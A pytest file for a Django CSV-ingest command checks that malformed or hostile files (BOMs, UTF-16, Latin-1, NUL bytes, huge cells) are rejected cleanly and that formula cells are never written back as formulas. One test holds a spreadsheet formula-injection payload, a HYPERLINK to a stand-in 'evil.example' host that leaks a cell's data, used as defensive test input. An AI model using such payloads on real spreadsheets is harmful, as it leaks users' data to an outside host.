"""Malicious CSV given to `haven ingest` (issue 18 item 7): a byte-order mark, a file in
UTF-16 or Latin-1, NUL bytes, huge cells and formula-looking cells each get a clear answer,
and nothing is lost or run. (Row-level cases: haven/people/tests/test_ingest_bad_input.py.)"""

import csv
import io

import pytest
from django.core.management import CommandError, call_command

from haven.people.ingest import ingest_export
from haven.people.models import SourceRecord

ROWS = "source_id,forename,surname,date_of_birth,postcode\r\nA,Ann,Good,1980-01-01,\r\n"


def export(tmp_path, data: bytes):
    folder = tmp_path / "pvp"
    folder.mkdir()
    (folder / "people.csv").write_bytes(data)
    return folder


def reasons(folder):
    path = folder / "rejects" / "people.csv"
    if not path.exists():
        return []
    with path.open(encoding="utf-8") as handle:
        return [row["reason"] for row in csv.DictReader(handle)]


def test_a_byte_order_mark_is_read_as_the_start_of_the_file_not_of_the_first_column(
        forces, tmp_path):
    folder = export(tmp_path, b"\xef\xbb\xbf" + ROWS.encode())
    ingest_export(forces["WARKS"], "pvp", folder, progress=False)
    assert list(SourceRecord.objects.values_list("source_id", flat=True)) == ["A"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_a_utf16_file_is_refused_in_words_naming_the_file(forces, tmp_path, encoding):
    folder = export(tmp_path, ROWS.encode(encoding))
    out = io.StringIO()
    with pytest.raises((CommandError, ValueError)) as refused:
        call_command("ingest", str(folder), "--force", "WARKS", "--source", "pvp",
                     stdout=out, stderr=out)
    message = str(refused.value)
    assert "people.csv" in message
    assert "UTF-8" in message or "NUL" in message or "encoding" in message.lower()
    assert not SourceRecord.objects.exists()


def test_a_latin1_file_names_the_line_and_keeps_the_good_rows(forces, tmp_path):
    data = (ROWS + "B,Ren\xe9e,Latin,1980-01-01,\r\n").encode("latin-1")
    folder = export(tmp_path, data)
    ingest_export(forces["WARKS"], "pvp", folder, progress=False)
    assert list(SourceRecord.objects.values_list("source_id", flat=True)) == ["A"]
    assert reasons(folder)[0].startswith("line 3 is not UTF-8 text")


def test_formula_cells_are_stored_as_text_and_never_written_back_as_a_formula(
        forces, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    data = (ROWS + f'B,"{hostile.replace(chr(34), chr(34) * 2)}",Formula,1980-13-45,\r\n'
            + "C,@SUM(1+1),+cmd,-1,\r\n").encode()
    folder = export(tmp_path, data)
    ingest_export(forces["WARKS"], "pvp", folder, progress=False)
    stored = dict(SourceRecord.objects.values_list("source_id", "forename"))
    assert stored.get("C") == "@SUM(1+1)" or "C" not in stored  # kept as text if kept
    rejects = (folder / "rejects" / "people.csv")
    if rejects.exists():
        for row in csv.reader(rejects.open(encoding="utf-8")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), cell


def test_nul_bytes_and_a_huge_single_line_file_end_in_clear_reasons(forces, tmp_path):
    data = ROWS.encode() + b"B,Nul\x00,Byte,1980-01-01,\r\n" + b"C," + b"y" * 3_000_000 + b"\r\n"
    folder = export(tmp_path, data)
    ingest_export(forces["WARKS"], "pvp", folder, progress=False)
    assert list(SourceRecord.objects.values_list("source_id", flat=True)) == ["A"]
    found = reasons(folder)
    assert found[0].startswith("line 3 contains a NUL byte")
    assert found[1] == "forename is longer than 100,000 characters"
    with (folder / "rejects" / "people.csv").open(encoding="utf-8") as handle:
        assert [row["line"] for row in csv.DictReader(handle)] == ["3", "4"]
